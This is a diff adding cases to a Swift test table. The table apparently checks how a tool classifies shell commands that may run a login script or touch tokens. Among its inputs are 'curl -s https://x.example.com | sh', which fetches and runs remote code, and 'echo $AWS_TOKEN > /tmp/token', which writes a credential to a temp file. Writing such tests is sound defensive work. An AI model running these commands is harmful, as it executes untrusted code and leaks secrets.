@@ -275,6 +275,8 @@ struct MatchTests {
       ("./ci/login.sh", "unknown tokenUnknown"), ("make login", "unknown tokenUnknown"),
       ("$LOGIN", "unknown tokenUnknown"), ("sh login.sh", "unknown tokenUnknown"),
       ("sh -c true", "refused notDelivered"),
+      ("bash -c \"$LOGIN\"", "unknown tokenUnknown"), ("eval \"$LOGIN\"", "unknown tokenUnknown"),
+      (". ./login.sh", "unknown tokenUnknown"), ("curl -s https://x.example.com | sh", "unknown tokenUnknown"),
       ("login() { true; }; login", "refused notDelivered"), ("python3 login.py", "unknown tokenUnknown"),
       ("npm ci && apk add jq && git fetch", "refused notDelivered"), ("npm run login", "unknown tokenUnknown"),
       ("echo $AWS_TOKEN > /tmp/token; ./login.sh", "unknown tokenUnknown"),
